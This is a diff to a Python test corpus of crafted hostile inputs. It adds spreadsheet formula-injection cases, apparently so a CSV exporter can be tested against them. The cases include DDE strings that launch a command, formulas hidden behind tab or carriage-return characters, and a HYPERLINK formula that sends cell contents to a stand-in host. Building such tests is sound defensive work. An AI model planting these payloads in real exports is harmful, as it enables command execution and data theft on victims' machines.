@@ -26,7 +26,7 @@ PROJECT_ROOT = Path(__file__).resolve().parents[2]
 class Hostile:
     name: str
     fault: str
-    build: Callable[[Path], Path]
+    build: Callable[[Path], object]  # the crafted input: usually a file or folder, for cells the text itself
     expect: str
 
     def __str__(self) -> str:
@@ -36,8 +36,8 @@ class Hostile:
 CORPUS: list[Hostile] = []
 
 
-def hostile(name: str, fault: str, expect: str):
-    def register(build: Callable[[Path], Path]) -> Callable[[Path], Path]:
+def hostile(name: str, fault: str, expect: str = ""):
+    def register(build: Callable[[Path], object]) -> Callable[[Path], object]:
         CORPUS.append(Hostile(name, fault, build, expect))
         return build
     return register
@@ -144,3 +144,11 @@ def _(tmp: Path) -> Path:
         (root / f"img{i}.png").write_bytes(png)
     (root / "labels.csv").write_text("path,label\n" + "".join(f"img{i}.png,{i * 7919}\n" for i in range(1001)))
     return root / "labels.csv"
+
+
+# -- 2. text a spreadsheet would run as a formula, in any exported cell or column name ---------------
+for _name, _cell in (("csv-cmd-dde", "=cmd|' /C calc'!A0"), ("csv-plus-formula", "+SUM(1,2)"),
+                     ("csv-minus-formula", "-2+3+cmd|' /C calc'!A0"), ("csv-at-formula", "@SUM(A1:A9)"),
+                     ("csv-tab-then-formula", "\t=1+1"), ("csv-cr-then-formula", "\r=1+1"),
+                     ("csv-hyperlink", '=HYPERLINK("http://example.invalid/?"&A1,"open")')):
+    hostile(_name, "csv")(lambda tmp, cell=_cell: cell)
